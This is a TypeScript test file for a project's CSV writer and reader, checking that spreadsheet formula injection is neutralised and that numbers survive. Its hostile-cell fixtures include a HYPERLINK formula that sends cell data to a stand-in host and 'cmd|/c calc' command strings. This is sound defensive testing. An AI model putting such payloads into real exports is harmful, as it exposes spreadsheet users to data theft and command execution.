/**
 * The one CSV writer and reader (src/lib/csv.ts): formula guard on hostile cells, numbers untouched,
 * and both outputs that use it (the build's observations.csv / pairs.csv, the app's chart CSV)
 * parse back with papaparse with every hostile cell neutralised.
 */
import Papa from 'papaparse';
import { describe, expect, test } from 'vitest';
import { observationsCsv, pairsCsv } from '../../scripts/build/csv.ts';
import { buildDataset, slicesOf } from '../../scripts/build/pipeline.ts';
import { BOM, guardCell, parseCsv, toCsv } from '../../src/lib/csv';
import { parseViewCsv } from '../helpers/view-csv';
import { chartCsv } from '../../src/lib/export/csv';

/** Cells a hostile or careless source could hold, and how they must be written. */
const HOSTILE = [
  { name: 'HYPERLINK formula', cell: '=HYPERLINK("http://evil.example/?x="&A1,"点击")', written: `'=HYPERLINK("http://evil.example/?x="&A1,"点击")` },
  { name: 'plus', cell: '+1+cmd|/c calc', written: `'+1+cmd|/c calc` },
  { name: 'minus', cell: '-2+3+cmd|/c calc', written: `'-2+3+cmd|/c calc` },
  { name: 'at', cell: '@SUM(A1:A9)', written: `'@SUM(A1:A9)` },
  { name: 'tab', cell: '\t=1+1', written: `'\t=1+1` },
  { name: 'carriage return', cell: '\r=1+1', written: `'\r=1+1` },
  { name: 'formula over two lines', cell: '=1+1\n第二行', written: `'=1+1\n第二行` },
] as const;

/** Cells that must be written unchanged. */
const HARMLESS = [
  { name: 'Chinese sentence', cell: '地区生产总值增长6.5%左右' },
  { name: 'equals sign inside', cell: 'a=b' },
  { name: 'a negative number as text', cell: '-14.6' },
  { name: 'a signed number as text', cell: '+3' },
  { name: 'exponent', cell: '-1e-3' },
  { name: 'full-width equals (not a formula start in spreadsheets)', cell: '＝1' },
  { name: 'empty', cell: '' },
] as const;

describe('guardCell', () => {
  test.each(HOSTILE)('$name gets an apostrophe', ({ cell, written }) => expect(guardCell(cell)).toBe(written));
  test.each(HARMLESS)('$name is unchanged', ({ cell }) => expect(guardCell(cell)).toBe(cell));
});

const parseBack = (csv: string) => {
  expect(csv.startsWith(BOM)).toBe(true);
  const parsed = Papa.parse<Record<string, string>>(csv.slice(1), { header: true, skipEmptyLines: true });
  expect(parsed.errors).toEqual([]);
  return parsed.data;
};

describe('toCsv', () => {
  test('BOM, header, CRLF after every line; RFC 4180 quoting', () => {
    expect(toCsv(['a', 'b'], [{ a: 1, b: 'x,y' }])).toBe(`${BOM}a,b\r\n1,"x,y"\r\n`);
    expect(toCsv(['a'], [{ a: 'say "hi"' }], { bom: false })).toBe(`a\r\n"say ""hi"""\r\n`);
  });

  test.each([
    { name: 'negative number', value: -14.6, expected: '-14.6' },
    { name: 'zero', value: 0, expected: '0' },
    { name: 'NaN is empty', value: Number.NaN, expected: '' },
    { name: 'Infinity is empty', value: Number.POSITIVE_INFINITY, expected: '' },
    { name: 'null is empty', value: null, expected: '' },
    { name: 'undefined is empty', value: undefined, expected: '' },
    { name: 'boolean', value: false, expected: 'false' },
    { name: 'edge space is kept', value: ' a', expected: '" a"' },
  ])('$name → $expected', ({ value, expected }) => {
    expect(toCsv(['v'], [{ v: value }], { bom: false })).toBe(`v\r\n${expected}\r\n`);
  });

  test.each(HOSTILE)('a hostile cell ($name) parses back neutralised', ({ cell, written }) => {
    expect(parseBack(toCsv(['v', 'n'], [{ v: cell, n: -14.6 }]))).toEqual([{ v: written, n: '-14.6' }]);
  });
});

describe('parseCsv', () => {
  test.each([
    { name: 'blank lines skipped, lines counted', text: 'a,b\n\nc,"d\ne"\nf,g', lines: [1, 3, 5] },
    { name: 'CRLF', text: 'a,b\r\nc,d\r\n', lines: [1, 2] },
    { name: 'mixed line ends', text: 'a\r\nb\nc\rd', lines: [1, 2, 3, 4] },
    { name: 'BOM dropped', text: '\uFEFFid,zh\ngdp,地区生产总值', lines: [1, 2] },
    { name: 'quoted line break inside a record', text: 'x\n"1\n2\n3",y\nz', lines: [1, 2, 5] },
  ])('$name', ({ text, lines }) => {
    const r = parseCsv(text);
    expect(r.errors).toEqual([]);
    expect(r.records.map((x) => x.line)).toEqual(lines);
  });

  test('fields, quotes doubled inside quotes', () => {
    expect(parseCsv('a,"b,""c"""\n').records).toEqual([{ line: 1, fields: ['a', 'b,"c"'] }]);
  });

  test('an unterminated quote is an error on the line where its record starts', () => {
    const r = parseCsv('id,zh\ngdp,x\n"broken,y\nz,w');
    expect(r.errors).toEqual([{ line: 3, message: 'Quoted field unterminated' }]);
  });

  test('reads back what toCsv writes, hostile cells included (a CR inside a field reads as LF)', () => {
    const rows = HOSTILE.map((h) => ({ cell: h.cell, n: -1 }));
    const { records } = parseCsv(toCsv(['cell', 'n'], rows));
    expect(records.slice(1).map((r) => r.fields)).toEqual(HOSTILE.map((h) => [h.written.replace(/\r/g, '\n'), '-1']));
  });
});

describe('both writers neutralise hostile cells and keep numbers', () => {
  // Real rows from the seeds, then the hostile text put where a source or a catalogue could put it.
  const { dataset } = buildDataset({ seedsDir: 'seeds', dataDir: 'data' });
  const hostile = dataset.observations.slice(0, HOSTILE.length).map((o, i) => ({
    ...o,
    quote: HOSTILE[i]!.cell,
    indicator_zh: HOSTILE[i]!.cell,
    indicator_en: HOSTILE[i]!.cell,
    value: -14.6,
  }));
  const expectNeutralised = (rows: Record<string, string>[], columns: string[]) => {
    rows.forEach((row, i) => {
      for (const c of columns) expect(row[c], `${c} of row ${i}`).toBe(HOSTILE[i]!.written);
      expect(row.value).toBe('-14.6');
    });
  };

  test('observations.csv (build)', () => {
    expectNeutralised(parseBack(observationsCsv(hostile)), ['quote', 'indicator_zh', 'indicator_en']);
  });

  test('pairs.csv (build): negative gaps stay numbers', () => {
    const negative = dataset.pairs.filter((p) => p.gap !== null && p.gap < 0);
    expect(negative.length).toBeGreaterThan(0);
    const rows = parseBack(pairsCsv(negative));
    expect(rows.map((r) => Number(r.gap))).toEqual(negative.map((p) => p.gap));
    expect(rows.every((r) => r.gap!.startsWith('-'))).toBe(true);
  });

  test('the chart CSV (app)', () => {
    const slice = slicesOf(dataset).find((s) => s.region === 'zhumadian' && s.indicator.id === 'gdp')!;
    const cellOf = (i: number) => HOSTILE[i % HOSTILE.length]!;
    const observations = slice.observations.map((o, i) => ({ ...o, quote: cellOf(i).cell, indicator_zh: cellOf(i).cell, value: -14.6 }));
    // The app's CSVs have a header in the page's language; rows come back keyed by column.
    const rows = parseViewCsv(chartCsv({ ...slice, observations }, 'zh'), 'zh').data;
    expect(rows).toHaveLength(observations.length);
    const written = observations.map((_, i) => cellOf(i).written).sort();
    expect(rows.map((r) => r.quote).sort()).toEqual(written);
    expect(rows.map((r) => r.indicator).sort()).toEqual(written);
    expect(rows.every((r) => r.value === '-14.6')).toBe(true);
  });
});
